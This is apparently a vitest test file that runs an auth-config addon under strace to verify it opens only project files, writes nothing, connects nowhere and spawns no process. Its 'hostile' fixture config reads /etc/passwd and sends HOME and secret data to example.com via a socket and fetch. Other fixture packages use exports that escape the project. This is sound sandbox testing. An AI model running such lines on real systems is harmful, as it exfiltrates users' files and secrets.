// Laws 1 and 3 as the kernel sees them. In: runs of the addon under strace, on the playground's config and on one that does its worst. Out: between
// the two marks, every file that is opened lies in the project, in one of its layers, or in a `node_modules` that they see; nothing is written;
// nothing is connected to; no process is started. Needs strace (Debian: `apt-get install strace`), which `.ci/run` asks for.
import { execFileSync, spawnSync } from 'node:child_process'
import { mkdirSync, writeFileSync } from 'node:fs'
import { dirname, join, resolve, sep } from 'node:path'
import { fileURLToPath } from 'node:url'
import { describe, expect, it } from 'vitest'
import { root } from '../support/paths.ts'
import { temporaryApp } from '../support/temporary-app.ts'
import type { SchemaRequest } from '../../index.js'

const script = fileURLToPath(new URL('../support/generate-between-markers.mjs', import.meta.url))
const hasStrace = process.platform === 'linux' && spawnSync('strace', ['-V']).status === 0

// Where tests are required to have it, its absence is a failure and no reason to pass.
it.runIf(process.env.CI_STRACE === 'required')('strace is installed', () => {
  expect(hasStrace).toBe(true)
})

interface SystemCall { name: string, text: string }

/** What the process asks of the kernel between the marks, whatever the thread. */
function trace(request: SchemaRequest, mode: 'sync' | 'async') {
  const dir = temporaryApp({}, { packages: false }).dir
  const log = join(dir, 'trace')
  // A ring of calls would hide from strace what is asked through it.
  const output = execFileSync('strace', ['-f', '-s', '4096', '-y', '-o', log, process.execPath, script, JSON.stringify(request), mode], { encoding: 'utf8', env: { ...process.env, UV_USE_IO_URING: '0' } })
  const lines = execFileSync('cat', [log], { encoding: 'utf8', maxBuffer: 2 ** 28 }).split('\n')
  const start = lines.findIndex(line => line.includes('"/marker/start"'))
  const end = lines.findIndex(line => line.includes('"/marker/end"'))
  expect(start).toBeGreaterThan(0)
  expect(end).toBeGreaterThan(start)
  const calls = lines.slice(start + 1, end).flatMap((line): SystemCall[] => {
    const match = /^\d+ +(?:<\.\.\. )?(\w+)(\W.*)?$/.exec(line)
    return match ? [{ name: match[1] ?? '', text: match[2] ?? '' }] : []
  })
  return { calls, result: JSON.parse(output) as { schema: boolean, dependencies: string[], missing: string[] } }
}

/** The path that a call names, made absolute. */
function pathOf({ text }: SystemCall): string | undefined {
  const match = /^\((?:AT_FDCWD(?:<[^>]*>)?, )?"((?:[^"\\]|\\.)*)"/.exec(text)
  return match?.[1] ? resolve(match[1]) : undefined
}

const opening = new Set(['open', 'openat', 'openat2', 'creat'])
const looking = new Set(['stat', 'lstat', 'newfstatat', 'statx', 'access', 'faccessat', 'faccessat2', 'readlink', 'readlinkat', 'getdents64'])
/** What the C library and Rust's standard library ask about the machine: how much memory and how many processors there are. */
const ofTheMachine = /^\/(?:proc\/(?:self\/cgroup|sys\/vm\/overcommit_memory|self\/maps|self\/mountinfo)$|sys\/fs\/cgroup(?:\/|$)|sys\/devices\/system\/(?:node|cpu)(?:\/|$))/
/** Memory, threads, time, and reading what is open: all else has to be in one of the lists. */
const harmless = new Set([
  'mmap', 'munmap', 'mprotect', 'mremap', 'madvise', 'brk', 'read', 'pread64', 'close', 'lseek', 'fstat', 'futex', 'clone3', 'clone', 'set_robust_list', 'rseq',
  // A thread that starts asks which scheduling and which processors it has.
  'prctl', 'exit', 'sched_getaffinity', 'sched_getparam', 'sched_getscheduler', 'sched_yield', 'rt_sigprocmask', 'rt_sigaction', 'sigaltstack', 'getrandom', 'gettid', 'getpid', 'clock_gettime',
  // The event loop hands over what it waits for; files do not go this way with UV_USE_IO_URING=0.
  'io_uring_enter', 'clock_nanosleep', 'epoll_wait', 'epoll_pwait', 'epoll_ctl', 'poll', 'ppoll', 'resumed', 'restart_syscall', 'getcwd', 'tgkill', 'rt_sigreturn', 'exited',
])

/** `named` are the paths that the config itself names: whether they are there may be looked at, and no more. */
function check(request: SchemaRequest, mode: 'sync' | 'async', allowed: string[], named: string[] = []) {
  const { calls, result } = trace(request, mode)
  const inside = (path: string) => allowed.some(folder => path === folder || path.startsWith(folder + sep))
  const problems: string[] = []
  const opened: string[] = []
  for (const call of calls) {
    const path = pathOf(call)
    if (opening.has(call.name)) {
      if (/O_WRONLY|O_RDWR|O_CREAT|O_TRUNC|O_APPEND/.test(call.text) || call.name === 'creat')
        problems.push(`opens to write: ${call.text}`)
      else if (path && !ofTheMachine.test(path) && !call.text.includes('resumed')) {
        opened.push(path)
        if (!inside(path))
          problems.push(`opens ${path}`)
      }
    }
    else if (looking.has(call.name)) {
      // Links are resolved from the root of the disk on, and tsconfig.json, node_modules and .pnp.cjs are looked for upwards: the folders above are looked at.
      const above = path && (allowed.some(folder => folder.startsWith(path === '/' ? path : path + sep)) || ['tsconfig.json', 'jsconfig.json', 'package.json', '.pnp.cjs', 'node_modules'].some(name => path.endsWith(`/${name}`)))
      if (path && !above && !named.includes(path) && !inside(path) && !ofTheMachine.test(path))
        problems.push(`looks at ${path}`)
    }
    else if (call.name === 'write') {
      // A thread wakes the event loop through an event counter. What a call that was interrupted writes to stands where it began.
      if (!call.text.includes('resumed') && !/^\(\d+<anon_inode:\[eventfd\]>/.test(call.text))
        problems.push(`writes: ${call.text}`)
    }
    else if (call.name === 'fcntl') {
      // With its debug assertions on, Rust's standard library asks whether a file that it closes is open.
      if (!call.text.includes('F_GETFD') && !call.text.includes('resumed'))
        problems.push(`fcntl${call.text}`)
    }
    else if (/^clone3?$/.test(call.name) ? !call.text.includes('CLONE_THREAD') && !call.text.includes('resumed') : !harmless.has(call.name)) {
      problems.push(`${call.name}${call.text}`)
    }
  }
  return { problems, opened: new Set(opened), result }
}

const modes = ['sync', 'async'] as const

describe.runIf(hasStrace)('system calls', () => {
  it.each(modes)('the config of the playground (%s)', (mode) => {
    const dir = join(root, 'playground')
    const configFile = join(dir, 'server', 'auth.config.ts')
    const { problems, opened, result } = check({ configFile, rootDir: dir, dialect: 'sqlite', alias: { '~': join(dir, 'app') } }, mode, [dir, join(root, 'node_modules')])
    expect(problems).toEqual([])
    expect(result.schema).toBe(true)
    // The list is no empty one, and what we say that we read is what was opened.
    expect(opened).toContain(configFile)
    expect([...opened].filter(path => !result.dependencies.includes(path) && !result.missing.includes(path) && !path.endsWith('/package.json') && !path.endsWith('.json'))).toEqual([])
  })

  it.each(modes)('a config that does its worst (%s)', (mode) => {
    const app = temporaryApp({
      'outside/secret.ts': 'export const secret = \'secret\'',
      'app/package.json': '{ "name": "app" }',
      'app/server/auth.config.ts': hostile,
      'app/layer/plugins.ts': 'import { jwt } from \'better-auth/plugins\'\nexport const fromLayer = [jwt()]',
      'app/node_modules/leaving/package.json': '{ "name": "leaving", "version": "1.0.0", "peerDependencies": { "better-auth": "*" }, "exports": { ".": "./index.js", "./x": "../../../outside/secret.ts", "./y": "./../../../../../etc/passwd" } }',
      'app/node_modules/leaving/index.js': 'export { secret } from \'../../../outside/secret.ts\'\nexport * from \'/etc/passwd\'',
      'app/node_modules/unrelated/package.json': '{ "name": "unrelated", "version": "1.0.0" }',
      'app/node_modules/unrelated/index.js': 'require(\'fs\').writeFileSync(\'/tmp/never\', \'\')',
    }, { packages: false })
    const dir = join(app.dir, 'app')
    const configFile = join(dir, 'server', 'auth.config.ts')
    for (const name of ['better-auth', '@better-auth/core', '@better-auth/utils'])
      linkPackage(dir, name)
    const { problems, opened } = check({ configFile, rootDir: dir, dialect: 'postgresql', alias: { '#layer': join(dir, 'layer') } }, mode, [dir, join(root, 'node_modules')], ['/etc', '/etc/passwd', '/etc/hostname'])
    expect(problems).toEqual([])
    expect(opened).toContain(configFile)
    expect(opened).toContain(join(dir, 'layer', 'plugins.ts'))
    expect([...opened].filter(path => path.includes('unrelated/index.js') || path.includes('secret'))).toEqual([])
  })
})

const hostile = `
import { readFileSync, writeFileSync } from 'node:fs'
import { execSync } from 'node:child_process'
import { connect } from 'node:net'
import { secret } from 'leaving'
import { x } from 'leaving/x'
import { y } from 'leaving/y'
import unrelated from 'unrelated'
import passwd from '/etc/passwd'
import hosts from 'file:///etc/hosts'
import remote from 'https://example.com/plugin.js'
import { fromLayer } from '#layer/plugins'
import { username } from 'better-auth/plugins'
writeFileSync('/tmp/never', readFileSync('/etc/passwd'))
execSync('touch /tmp/never')
connect(80, 'example.com').write(process.env.HOME)
await fetch('https://example.com/' + secret + x + y + passwd + hosts + remote + unrelated)
const data = await import('/etc/hostname')
export default { appName: String(data), plugins: [username(), ...fromLayer, ...(process.env.A ? [] : [])] }
`

/** A package as pnpm installs it: a link to where it is kept. */
function linkPackage(dir: string, name: string): void {
  const link = join(dir, 'node_modules', name)
  mkdirSync(dirname(link), { recursive: true })
  execFileSync('ln', ['-s', join(root, 'node_modules', name), link])
  writeFileSync(join(dir, 'linked'), name)
}
